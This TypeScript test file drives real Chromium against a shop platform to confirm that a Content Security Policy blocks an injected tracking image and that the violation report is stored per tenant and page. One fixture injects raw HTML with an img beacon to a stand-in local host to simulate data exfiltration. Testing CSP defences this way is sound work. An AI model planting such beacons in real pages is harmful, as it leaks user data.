import type { FastifyInstance } from 'fastify';
import type { Browser } from 'playwright-core';
import { h } from 'preact';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../../../test/chromium.ts';
import { createTestApp } from '../../../test/test-app.ts';
import { createTestDatabase } from '../../../test/test-database.ts';
import { seedDemoPlatform } from '../../demo/seed-platform.ts';
import type { Database } from '../../platform/db/database.ts';
import { withTenant } from '../../platform/db/tenant-scope.ts';
import type { RouteModule } from '../../platform/http/app.ts';
import { registerShopRoutes } from '../../platform/http/shop-routes.ts';
import { Layout } from '../../platform/views/layout.tsx';
import { unsafeRawHtml } from '../../platform/views/raw-html.ts';
import { ROUTES } from '../routes.ts';

let database: Database;
let app: FastifyInstance;
let browser: Browser;
let origin: string;

// A shop page whose stored text smuggles in an external image (exfiltration by beacon, BRIEF 5):
// the CSP blocks it and the browser itself reports it.
const tamperedPage: RouteModule = (a, platform) =>
  registerShopRoutes(a, platform, (shopApp) => {
    shopApp.get('/test/tampered', (_req, reply) =>
      reply.page(
        h(Layout, { title: 't', brand: { name: 'T', href: '/' }, stylesheetUrl: platform.assets.url('css/app.css'), children: unsafeRawHtml('<img src="http://127.0.0.1:9/beacon.gif?d=4242" alt="">', 'trusted-markup') }),
        { page: 'checkout' },
      ),
    );
  });

beforeAll(async () => {
  database = await createTestDatabase();
  await seedDemoPlatform(database);
  ({ app } = await createTestApp(database, { routes: [...ROUTES, tamperedPage] }));
  const address = await app.listen({ port: 0, host: '127.0.0.1' });
  origin = address.replace('127.0.0.1', 'localhost');
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
  await app?.close();
  await database?.close();
});

describe('CSP reports from real Chromium', () => {
  it('a blocked beacon on a shop page reaches the report store, attributed to shop and page', async () => {
    const page = await browser.newPage();
    const blocked: string[] = [];
    page.on('console', (m) => blocked.push(m.text()));
    await page.goto(`${origin}/s/mall/test/tampered`);
    const mallId = (await database.ownerExec(`SELECT id FROM tenants WHERE slug = 'mall'`)).rows[0]!.id as string;
    let rows: { page: string; blocked_uri: string; effective_directive: string; user_agent: string }[] = [];
    for (let i = 0; i < 50 && rows.length === 0; i++) {
      await new Promise((r) => setTimeout(r, 100));
      rows = await withTenant(database, mallId, (tx) => tx.selectFrom('csp_reports').select(['page', 'blocked_uri', 'effective_directive', 'user_agent']).execute());
    }
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ page: 'checkout', effective_directive: 'img-src' });
    expect(rows[0]!.blocked_uri).toContain('127.0.0.1:9');
    expect(rows[0]!.user_agent).toContain('Chrome');
    await page.close();
  });

  it('an unchanged page raises nothing', async () => {
    const page = await browser.newPage();
    const violations: string[] = [];
    await page.exposeFunction('__noteViolation', (d: string) => violations.push(d));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __noteViolation(d: string): void }).__noteViolation(e.violatedDirective));
    });
    await page.goto(`${origin}/s/mall/legal`);
    await page.goto(`${origin}/`);
    await new Promise((r) => setTimeout(r, 300));
    expect(violations).toEqual([]);
    await page.close();
  });
});
